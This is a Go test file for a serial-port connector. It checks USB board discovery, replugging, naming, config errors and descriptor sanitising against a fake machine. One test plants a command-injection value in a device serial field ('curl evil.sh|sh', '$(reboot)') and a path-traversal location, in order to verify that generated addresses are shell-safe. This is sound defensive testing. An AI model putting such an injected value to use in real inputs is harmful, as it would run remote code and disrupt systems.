package serial

import (
	"context"
	"errors"
	"fmt"
	"maps"
	"os"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"github.com/ferrulehq/ferrule/internal/device/transport"
)

// machine is a fake system.
type machine struct {
	mu     sync.Mutex
	ports  []systemPort
	links  map[string]string // symbolic links
	plugs  map[string]int    // how often a path was plugged in
	broken bool              // list fails
	hidden string            // a path that list leaves out
}

func (m *machine) plug(f systemPort) {
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.plugs == nil {
		m.plugs = make(map[string]int)
	}
	m.plugs[f.Path]++
	m.ports = append(m.ports, f)
}

func (m *machine) unplug(path string) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.ports = slices.DeleteFunc(m.ports, func(f systemPort) bool { return f.Path == path })
}

func (m *machine) setBroken(broken bool) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.broken = broken
}

func (m *machine) list() ([]systemPort, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.broken {
		return nil, errors.New("not now")
	}
	return slices.DeleteFunc(slices.Clone(m.ports), func(f systemPort) bool { return f.Path == m.hidden }), nil
}

func (m *machine) hide(path string) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.hidden = path
}

func (m *machine) covers(path string) bool {
	return strings.HasPrefix(path, "/dev/ttyACM") || strings.HasPrefix(path, "/dev/ttyUSB")
}

func (m *machine) stat(path string) (real, fileID string, err error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	if to := m.links[path]; to != "" {
		path = to
	}
	if !slices.ContainsFunc(m.ports, func(f systemPort) bool { return f.Path == path }) {
		return "", "", errors.New("no such port")
	}
	return path, fmt.Sprint(path, m.plugs[path]), nil
}

// The ports of the tests.
var (
	arduino = systemPort{Path: "/dev/ttyACM0", USB: true, VID: "2341", PID: "0043", Serial: "95530343834351A0B091", Product: "Arduino Uno", Location: "1-1", Interface: "0"}
	printer = systemPort{Path: "/dev/ttyUSB0", USB: true, VID: "1A86", PID: "7523", Product: "USB Serial", Location: "1-2"}
	bridge  = systemPort{Path: "/dev/ttyUSB1", USB: true, VID: "10C4", PID: "EA60", Serial: "0001", Product: "CP2102", Location: "1-3"}
	console = systemPort{Path: "/dev/ttyAMA0"}
)

// watch runs a connector on a machine. Latest returns its last report.
func watch(t *testing.T, m *machine, ports ...Port) (latest func() []string) {
	t.Helper()
	cfg := DefaultConfig()
	cfg.Ports, cfg.Protocols = ports, []string{"any"}
	if err := cfg.Check(); err != nil {
		t.Fatal(err)
	}
	c := New(cfg)
	c.system = m
	ctx, cancel := context.WithCancel(t.Context())
	var mu sync.Mutex
	var seen []transport.Sighting
	ended := make(chan error, 1)
	go func() {
		ended <- c.Watch(ctx, func(group string, all []transport.Sighting) {
			mu.Lock()
			defer mu.Unlock()
			seen = all
		})
	}()
	t.Cleanup(func() {
		cancel()
		if err := <-ended; err != nil {
			t.Errorf("Watch returned %v", err)
		}
	})
	return func() []string {
		time.Sleep(cfg.PollInterval + time.Millisecond)
		mu.Lock()
		defer mu.Unlock()
		var lines []string
		for _, s := range seen {
			if !s.Attached {
				t.Errorf("%s is not attached", s.Address)
			}
			if numbered := strings.Count(s.Address, ":") == 3; s.Local == numbered {
				t.Errorf("%s is local: %t", s.Address, s.Local)
			}
			line := fmt.Sprintf("%s #%d", s.Address, s.Instance)
			for word, ok := range map[string]bool{" adopted": s.Adopted, " unopened": s.AdoptFirst != "", " absent": s.Absent != "", " as " + s.Name: s.Name != ""} {
				if ok {
					line += word
				}
			}
			lines = append(lines, sorted(line))
		}
		return lines
	}
}

// sorted sorts the words of a line after its first two.
func sorted(line string) string {
	words := strings.Fields(line)
	slices.Sort(words[2:])
	return strings.Join(words, " ")
}

// TestWatch plugs and unplugs boards.
func TestWatch(t *testing.T) {
	type step struct {
		do   func(m *machine)
		want []string
	}
	moved := arduino
	moved.Path = "/dev/ttyACM7"
	twin := bridge
	twin.Path, twin.Location = "/dev/ttyUSB2", "1-4"
	second := arduino
	second.Path, second.Interface = "/dev/ttyACM1", "2"
	numbered, other := bridge, twin
	numbered.Serial, other.Serial = "10000001", "10000001"
	for name, test := range map[string]struct {
		ports []Port
		steps []step
	}{
		"auto": {[]Port{{Path: Auto}}, []step{
			{func(m *machine) {}, nil},
			{func(m *machine) { m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted"}},
			{func(m *machine) { m.plug(printer) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted", "usb:1A86:7523@1-2 #2 unopened"}},
			{func(m *machine) { m.plug(console) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted", "usb:1A86:7523@1-2 #2 unopened"}},
			{func(m *machine) { m.unplug(arduino.Path) }, []string{"usb:1A86:7523@1-2 #2 unopened"}},
			{func(m *machine) { m.plug(moved) }, []string{"usb:1A86:7523@1-2 #2 unopened", "usb:2341:0043:95530343834351A0B091 #3 adopted"}},
		}},
		"auto, pending": {[]Port{{Path: Auto, Pending: true}}, []step{
			{func(m *machine) { m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091 #1"}},
		}},
		"a system that fails for a moment": {[]Port{{Path: Auto}}, []step{
			{func(m *machine) { m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted"}},
			{func(m *machine) { m.setBroken(true) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted"}},
			{func(m *machine) { m.setBroken(false); m.unplug(arduino.Path) }, nil},
		}},
		"replugged between two scans": {[]Port{{Path: Auto}}, []step{
			{func(m *machine) { m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted"}},
			{func(m *machine) { m.unplug(arduino.Path); m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091 #2 adopted"}},
			{func(m *machine) { m.unplug(arduino.Path); m.plug(moved) }, []string{"usb:2341:0043:95530343834351A0B091 #3 adopted"}},
		}},
		"named": {[]Port{{Path: "/dev/ttyUSB0", Name: "robot"}}, []step{
			{func(m *machine) {}, []string{"/dev/ttyUSB0 #1 absent adopted as robot"}},
			{func(m *machine) { m.plug(printer) }, []string{"usb:1A86:7523@1-2 #2 adopted as robot"}},
			{func(m *machine) { m.unplug(printer.Path) }, []string{"usb:1A86:7523@1-2 #3 absent adopted as robot"}},
			{func(m *machine) { m.plug(printer) }, []string{"usb:1A86:7523@1-2 #4 adopted as robot"}},
		}},
		"named, and plugged into another port": {[]Port{{Path: arduino.Path, Name: "robot"}, {Path: Auto}}, []step{
			{func(m *machine) { m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted as robot"}},
			{func(m *machine) { m.unplug(arduino.Path) }, []string{"usb:2341:0043:95530343834351A0B091 #2 absent adopted as robot"}},
			{func(m *machine) { m.plug(moved) }, []string{"/dev/ttyACM0 #3 absent adopted as robot", "usb:2341:0043:95530343834351A0B091 #4 adopted"}},
		}},
		"named by a link, and pending": {[]Port{{Path: "/dev/robot", Pending: true}}, []step{
			{func(m *machine) {
				m.links = map[string]string{"/dev/robot": arduino.Path}
				m.plug(arduino)
			}, []string{"usb:2341:0043:95530343834351A0B091 #1"}},
		}},
		"named and auto": {[]Port{{Path: Auto}, {Path: arduino.Path, Name: "robot"}}, []step{
			{func(m *machine) { m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted as robot"}},
		}},
		"not on USB": {[]Port{{Path: console.Path}}, []step{
			{func(m *machine) {}, []string{"/dev/ttyAMA0 #1 absent adopted"}},
			{func(m *machine) { m.plug(console) }, []string{"serial:/dev/ttyAMA0 #2 adopted"}},
		}},
		"a serial number that all have": {[]Port{{Path: Auto}}, []step{
			{func(m *machine) { m.plug(bridge); m.plug(twin) }, []string{"usb:10C4:EA60@1-3 #1 unopened", "usb:10C4:EA60@1-4 #2 unopened"}},
		}},
		"a board with two ports": {[]Port{{Path: Auto}}, []step{
			{func(m *machine) { m.plug(second) }, []string{"usb:2341:0043:95530343834351A0B091.2 #1 adopted"}},
			{func(m *machine) { m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091.2 #1 adopted", "usb:2341:0043:95530343834351A0B091 #2 adopted"}},
		}},
		"one port by two paths": {[]Port{{Path: "/dev/robot", Name: "robot"}, {Path: arduino.Path}}, []step{
			{func(m *machine) {
				m.links = map[string]string{"/dev/robot": arduino.Path}
				m.plug(arduino)
			}, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted as robot", "/dev/ttyACM0 #2 absent adopted"}},
		}},
		"a port that is not listed in one scan": {[]Port{{Path: arduino.Path, Name: "robot"}}, []step{
			{func(m *machine) { m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted as robot"}},
			{func(m *machine) { m.hide(arduino.Path) }, []string{"usb:2341:0043:95530343834351A0B091 #2 absent adopted as robot"}},
			{func(m *machine) { m.hide("") }, []string{"usb:2341:0043:95530343834351A0B091 #3 adopted as robot"}},
		}},
		"two with one serial number, present from the start": {[]Port{{Path: Auto}}, []step{
			{func(m *machine) { m.plug(numbered); m.plug(other) }, []string{"usb:10C4:EA60@1-3 #1 unopened", "usb:10C4:EA60@1-4 #2 unopened"}},
		}},
		"three at one location": {[]Port{{Path: Auto}}, []step{
			{func(m *machine) {
				for _, path := range []string{"/dev/ttyUSB5", "/dev/ttyUSB6", "/dev/ttyUSB7"} {
					f := printer
					f.Path = path
					m.plug(f)
				}
			}, []string{"usb:1A86:7523@1-2 #1 unopened", "usb:1A86:7523@1-2-ttyUSB6 #2 unopened", "usb:1A86:7523@1-2-ttyUSB7 #3 unopened"}},
		}},
		"two with one serial number": {[]Port{{Path: Auto}}, []step{
			{func(m *machine) { m.plug(numbered) }, []string{"usb:10C4:EA60:10000001 #1 unopened"}},
			{func(m *machine) { m.plug(other) }, []string{"usb:10C4:EA60:10000001 #1 unopened", "usb:10C4:EA60@1-4 #2 unopened"}},
			{func(m *machine) { m.unplug(numbered.Path) }, []string{"usb:10C4:EA60@1-4 #2 unopened"}},
		}},
	} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				m := &machine{}
				test.steps[0].do(m) // before the first scan
				latest := watch(t, m, test.ports...)
				for i, step := range test.steps {
					if i > 0 {
						step.do(m)
					}
					if got := latest(); !slices.Equal(got, step.want) {
						t.Errorf("step %d:\n got %q\nwant %q", i, got, step.want)
					}
				}
			})
		})
	}
}

// TestAbsent: the message for a missing port lists those that exist.
func TestAbsent(t *testing.T) {
	for _, test := range []struct {
		ports []systemPort
		want  string
	}{
		{nil, "port COM9 does not exist, and no board is on another port"},
		{[]systemPort{arduino, console}, `port COM9 does not exist; found /dev/ttyACM0 ("Arduino Uno"), /dev/ttyAMA0`},
	} {
		c := New(Config{Ports: []Port{{Path: "COM9", Name: "robot"}}})
		c.system = &machine{ports: test.ports}
		if s := c.sightings(c.scan())[0]; s.Absent != test.want || s.Name != "robot" || s.Address != "COM9" {
			t.Errorf("got %+v, want %s", s, test.want)
		}
	}
}

// TestShellSafe: the address of a board is safe in a command, whatever its descriptor
// holds.
func TestShellSafe(t *testing.T) {
	f := arduino
	f.Serial, f.Location = "x;curl evil.sh|sh;$(reboot)`id`", "../../etc"
	for _, address := range []string{port{systemPort: f}.address(), f.locationAddress()} {
		if strings.Trim(address, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789:@._-") != "" {
			t.Errorf("got %s", address)
		}
	}
	if f.Product = strings.Repeat("`reboot`", 100); len(f.String()) > 100 {
		t.Errorf("got %s", f)
	}
}

func TestCheck(t *testing.T) {
	for _, test := range []struct {
		ports []Port
		want  string
	}{
		{[]Port{{Path: "COM3", Baud: 9600, Reset: ResetNone}, {Path: Auto}}, ""},
		{[]Port{{}}, "port must have a path"},
		{[]Port{{Path: "COM3"}, {Path: "COM3"}}, "port COM3 is configured twice"},
		{[]Port{{Path: "COM3", Baud: 1}}, "baud must be 50 to 12000000, got 1"},
		{[]Port{{Path: "COM3", Reset: "twice"}}, `reset must be none or empty, got "twice"`},
		{[]Port{{Path: Auto, Name: "robot"}}, `cannot have the name "robot"`},
	} {
		err := Config{Ports: test.ports}.Check()
		if (err == nil) != (test.want == "") || err != nil && !strings.Contains(err.Error(), test.want) {
			t.Errorf("%+v: %v, want %q", test.ports, err, test.want)
		}
	}
}

// FuzzDescriptor: any USB descriptor is shown as one printable line, and gives an
// address that is safe in a command.
func FuzzDescriptor(f *testing.F) {
	f.Add("Arduino Uno\n")
	f.Add("\x1b[31mred\u202e")
	f.Fuzz(func(t *testing.T, s string) {
		got := clean(s)
		if len(got) > 128 || strings.ContainsFunc(got, func(r rune) bool { return r < ' ' || r > '~' }) || clean(got) != got {
			t.Errorf("%q became %q", s, got)
		}
		p := port{systemPort: systemPort{USB: true, VID: "2341", PID: "0043", Serial: got, Location: got, Interface: got}}
		for _, address := range []string{p.address(), p.locationAddress()} {
			if !regexp.MustCompile(`^usb:2341:0043[:@][A-Za-z0-9._:-]{1,200}$`).MatchString(address) {
				t.Errorf("%q became the address %q", s, address)
			}
		}
	})
}

// TestBoardMakersDocumented: docs/reference/serial-ports.md lists the makers whose boards are opened
// without adoption.
func TestBoardMakersDocumented(t *testing.T) {
	doc, err := os.ReadFile("../../../../docs/reference/serial-ports.md")
	if err != nil {
		t.Fatal(err)
	}
	documented := make(map[string]string)
	for _, row := range regexp.MustCompile("(?m)^\\| `([0-9A-F]{4})` \\| (.*) \\|$").FindAllStringSubmatch(string(doc), -1) {
		documented[row[1]] = row[2]
	}
	if !maps.Equal(documented, boardMakers) {
		t.Errorf("docs/reference/serial-ports.md lists %v, want %v", documented, boardMakers)
	}
}

// TestSet: other settings do not change how an open board is reported, because the dock
// would open it again. They count when it is plugged in again.
func TestSet(t *testing.T) {
	m := &machine{}
	m.plug(arduino)
	m.plug(printer)
	c := New(Config{Ports: []Port{{Path: Auto}, {Path: printer.Path, Name: "lathe"}}})
	c.system = m
	report := func(ports ...Port) (lines []string) {
		c.Set(ports)
		for _, s := range c.sightings(c.scan()) {
			lines = append(lines, fmt.Sprintf("%s #%d %q %t %t", s.Address, s.Instance, s.Name, s.Adopted, s.AdoptFirst != ""))
		}
		slices.Sort(lines)
		return lines
	}
	uno, lathe := "usb:2341:0043:95530343834351A0B091", "usb:1A86:7523@1-2"
	want := func(got []string, want ...string) {
		t.Helper()
		if !slices.Equal(got, want) {
			t.Errorf("got %q, want %q", got, want)
		}
	}
	before := []string{lathe + ` #1 "lathe" true false`, uno + ` #2 "" true false`}
	want(report(c.wanted()...), before...)
	for _, p := range c.present {
		p.opened.Store(true)
	}
	want(report(Port{Path: arduino.Path, Name: "arm", Pending: true}, Port{Path: printer.Path, Name: "saw"}), before...)
	want(report(Port{Path: Auto}), before...) // auto does not open a board of that maker unasked
	want(report(Port{Path: arduino.Path, Name: "arm"}), before[1])
	m.unplug(arduino.Path)
	want(report(c.wanted()...), uno+` #3 "arm" true false`) // configured, so it is reported as absent
	m.plug(arduino)
	want(report(c.wanted()...), uno+` #4 "arm" true false`)
}
